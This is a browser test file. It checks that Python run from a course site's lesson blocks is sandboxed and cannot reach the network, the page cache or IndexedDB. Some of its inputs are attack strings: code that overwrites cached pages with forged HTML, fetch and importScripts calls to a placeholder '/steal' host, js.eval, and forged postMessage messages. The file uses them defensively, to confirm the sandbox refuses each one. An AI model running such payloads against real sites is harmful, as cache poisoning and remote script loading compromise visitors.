"""A reader's code is a guest: Python run from a lesson block cannot reach the site's storage or the network.

The page runs Python in a worker started from a ``data:`` URL (``docs/runner/python-session.js``): an
opaque origin, under the policy of the hidden frame it is started in (``runner/python-frame.html``: WebAssembly,
``blob:`` scripts, no network), which the pages' policy does not share. Each test below runs, from a lesson block as a reader would, an
attack that worked before that change (``js.caches`` rewriting a precached page, which the service
worker would then serve on every visit; an IndexedDB write; ``js.fetch``, ``open_url`` and
``importScripts`` to the site and to another origin; ``js.eval``), checks that the block's output says
it was refused and why, and checks from the page that nothing of the site's storage changed. The page hears
the worker only through its Worker object: a message posted to the page's window, by the page or by the frame,
changes nothing.
"""

from __future__ import annotations

from playwright.sync_api import Page, expect

from tests.browser.conftest import handled, poll
from tests.browser.test_offline import _controlled
from tests.browser.test_runner import LESSON, _block, _editor, _run

# Python that tries to replace every cached copy of the lesson page with a page of its own, in the
# background (the block returns at once): what a reader could paste from somewhere else. Pyodide's `js`
# module does not hand out the worker's own `caches` (its getter refuses Pyodide's stand-in for the
# worker's global), so the attack goes through JavaScript source, as it did before the worker was contained.
_CACHE_ATTACK = """
import js

forge = (
    "caches.keys().then((names) => names.forEach((name) => caches.open(name).then((cache) =>"
    " cache.put({lesson!r}, new Response('<h1>forged</h1>', {{ headers: {{ 'Content-Type': 'text/html' }} }})))))"
)
for label, attempt in [("eval", lambda: js.eval(forge)), ("caches", lambda: js.caches.keys())]:
    try:
        attempt()
        print(label, "reachable")
    except Exception as error:
        print(label, "refused:", str(error).splitlines()[0].split(" because ")[0])
"""

_INDEXED_DB_ATTACK = """
import js

for label, attempt in [
    ("eval", lambda: js.eval("indexedDB.open('forged-by-a-block')")),
    ("indexedDB", lambda: js.indexedDB.open("forged-by-a-block")),
]:
    try:
        attempt()
        print(label, "reachable")
    except Exception as error:
        print(label, "refused:", str(error).splitlines()[0].split(" because ")[0])
"""

# js.fetch answers with a promise: its outcome lands in `fetched` (read by the next run) once it settles.
_FETCH_ATTACK = """
import js
from pyodide.ffi import create_proxy

fetched = {{}}
for label, url in [("site", {site!r}), ("other", "http://127.0.0.2:9/steal")]:
    fetched[label] = "pending"
    def settle(outcome, label=label):
        fetched[label] = outcome
    js.fetch(url).then(
        create_proxy(lambda response, settle=settle: settle(f"answered {{response.status}}")),
        create_proxy(lambda error, settle=settle: settle(f"refused: {{error}}")),
    )
"""

_SYNCHRONOUS_ATTACKS = """
import js
from pyodide.http import open_url

for label, attempt in [
    ("open_url site", lambda: open_url({site!r})),
    ("open_url other", lambda: open_url("http://127.0.0.2:9/steal")),
    ("importScripts", lambda: js.importScripts("http://127.0.0.2:9/steal.js")),
]:
    try:
        attempt()
        print(label, "reachable")
    except Exception as error:
        print(label, "refused:", str(error).splitlines()[0])
"""

_PAGE_COPY = """async (url) => {
  const copies = [];
  for (const name of await caches.keys()) {
    const found = await (await caches.open(name)).match(url + "index.html", { ignoreSearch: true });
    if (found) copies.push([name, await found.text()]);
  }
  return copies;
}"""


# What Python says when the policy refuses js.eval: the browser's EvalError, or, now and then, the error Pyodide
# 0.27 raises instead when the refusal reaches it (a SystemError with this text; seen in about one run in three).
_EVAL_REFUSED = (
    "eval refused: EvalError: Evaluating a string as JavaScript violates the following Content Security Policy directive",
    "eval refused: error return without exception set",
)


def _refused_eval(line: str) -> bool:
    return line in _EVAL_REFUSED


def _output(page: Page, n: int) -> str:
    return _block(page, n).locator("[data-runner-output]").text_content() or ""


def _edit_and_run(page: Page, n: int, code: str) -> str:
    _editor(page, n).fill(code)
    _run(page, n)
    return _output(page, n)


def test_a_block_cannot_rewrite_the_sites_cached_pages(open_page, site_url: str) -> None:
    page = open_page(service_workers="allow")
    url = site_url + LESSON
    page.goto(url)
    _controlled(page)  # the worker has installed: the precache holds the lesson
    before = page.evaluate(_PAGE_COPY, url)
    assert before and all("<h1>forged</h1>" not in text for _, text in before)

    output = _edit_and_run(page, 1, _CACHE_ATTACK.format(lesson=url + "index.html"))
    lines = output.splitlines()
    assert _refused_eval(lines[0]), output
    assert lines[1:] == ["caches refused: TypeError: Illegal invocation"], output
    handled(page)
    assert page.evaluate(_PAGE_COPY, url) == before
    page.reload()
    expect(page.locator("h1")).to_contain_text("Scaled dot-product attention, step by step")


def test_a_block_cannot_write_the_sites_indexeddb(return_visit: Page, site_url: str) -> None:
    page = return_visit
    page.goto(site_url + LESSON)
    output = _edit_and_run(page, 1, _INDEXED_DB_ATTACK)
    lines = output.splitlines()
    assert _refused_eval(lines[0]), output
    # Python restored from the memory snapshot (return_visit) reaches the worker's own getter, which the opaque
    # origin refuses. (A first start's `js` refuses it sooner: "Illegal invocation", as for caches below.)
    denied = "access to the Indexed Database API is denied in this context."
    assert lines[1:] == [f"indexedDB refused: SecurityError: Failed to execute 'open' on 'IDBFactory': {denied}"], (
        output
    )
    handled(page)
    names = page.evaluate("async () => (await indexedDB.databases()).map((database) => database.name)")
    assert "forged-by-a-block" not in names


def test_the_worker_that_runs_a_readers_code_has_an_origin_of_its_own(return_visit: Page, site_url: str) -> None:
    """Under the policy and Pyodide's `js` module, the worker itself can reach none of the site's storage."""
    page = return_visit
    page.goto(site_url + LESSON)
    _run(page, 1)
    (worker,) = [each for each in page.workers if each.url.startswith("data:text/javascript,")]
    found = worker.evaluate(
        """async () => {
          const outcome = async (attempt) => { try { await attempt(); return "reachable"; } catch (e) { return e.name + ": " + e.message; } };
          return {
            origin: self.origin,
            caches: await outcome(() => caches.open("forged")),
            indexedDB: await outcome(() => indexedDB.open("forged")),
            serviceWorker: await outcome(() => navigator.serviceWorker.getRegistrations()),
          };
        }"""
    )
    assert found["origin"] == "null"
    # Its policy is the frame's: WebAssembly compiles there (and only there: tests/browser/test_csp.py), and the
    # frame is the one document the page started it in.
    smallest = "new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])"  # a module's magic number and version, no more
    compiled = worker.evaluate(f"async () => (await WebAssembly.compile({smallest})) instanceof WebAssembly.Module")
    assert compiled is True
    assert [frame.url for frame in page.frames if frame != page.main_frame] == [site_url + "runner/python-frame.html"]
    assert found["caches"].startswith("SecurityError: Failed to read the 'caches' property"), found
    assert found["indexedDB"].startswith("SecurityError: Failed to execute 'open' on 'IDBFactory'"), found
    assert found["serviceWorker"] != "reachable", found


def test_a_block_has_no_network_of_its_own(return_visit: Page, site_url: str) -> None:
    page = return_visit
    page.goto(site_url + LESSON)
    _edit_and_run(page, 1, _FETCH_ATTACK.format(site=site_url + "sitemap.xml"))
    # The promises settle after the block; a later run reads their outcome.
    read = "print(fetched['site']); print(fetched['other'])"
    _editor(page, 2).fill(read)

    def outcome() -> list[str]:
        _run(page, 2)
        return _output(page, 2).splitlines()

    lines = poll(page, outcome, lambda lines: "pending" not in lines, "js.fetch never settled")
    refusal = (
        "refused: TypeError: Python in this page has no network: it runs apart from the site, in a worker that can "
        "reach neither other sites nor what the site stores (it asked for {})."
    )
    assert lines == [refusal.format(site_url + "sitemap.xml"), refusal.format("http://127.0.0.2:9/steal")], lines

    output = _edit_and_run(page, 3, _SYNCHRONOUS_ATTACKS.format(site=site_url + "sitemap.xml"))
    assert output.splitlines() == [
        f"open_url site refused: NetworkError: Failed to execute 'send' on 'XMLHttpRequest': Failed to load '{site_url}sitemap.xml'.",
        "open_url other refused: NetworkError: Failed to execute 'send' on 'XMLHttpRequest': Failed to load 'http://127.0.0.2:9/steal'.",
        (
            "importScripts refused: NetworkError: Failed to execute 'importScripts' on 'WorkerGlobalScope': "
            "The script at 'http://127.0.0.2:9/steal.js' failed to load."
        ),
    ], output  # the site does not answer an opaque origin (no CORS), and the policy refuses other hosts


def test_a_page_offers_no_handle_on_python_unless_asked(browser, site_url: str) -> None:
    """Only a page whose context asked (site_examples/browser.py, ASK_FOR_TOOLS) has window.attentionCourse.python."""
    context = browser.new_context(service_workers="block")
    context.route(
        "**/*", lambda route, request: route.continue_() if request.url.startswith(site_url) else route.abort()
    )
    try:
        page = context.new_page()
        page.goto(site_url + LESSON)
        # The runner has mounted the page's blocks: it, and the session's module it imports, have run.
        expect(_block(page, 1).locator("button[data-action=run]")).to_be_enabled()
        assert page.evaluate("() => typeof window.attentionCourse") == "undefined"
    finally:
        context.close()


# Messages of the protocol's own forms, posted to the page's window as anything but its worker could: the page
# itself (an injected script), and the frame the worker starts in. `died` would end the session, `progress` would
# write into the page's status, a `result` for a guessed id would answer a call.
_FORGED = """(which) => {
  const target = which === "parent" ? window.parent : window;
  const forged = [
    { type: "died", reason: "forged" },
    { type: "progress", step: 1 },
    { type: "result", id: "1", ok: true, text: "forged" },
  ];
  for (const message of forged) target.postMessage(message, "*");
}"""


def test_a_message_posted_to_the_page_by_anything_but_its_worker_is_ignored(return_visit: Page, site_url: str) -> None:
    page = return_visit
    page.goto(site_url + LESSON)
    _run(page, 1)
    frame = next(frame for frame in page.frames if frame.url == site_url + "runner/python-frame.html")
    page.evaluate(_FORGED, "self")
    frame.evaluate(_FORGED, "parent")
    handled(page)
    assert page.evaluate("window.attentionCourse.python.state") == "ready"
    expect(page.locator(".runner-page-status")).to_have_text("Python is ready.")
    _editor(page, 2).fill("print(6 * 7)")
    _run(page, 2)  # the same session answers, as before
    assert _output(page, 2) == "42\n"
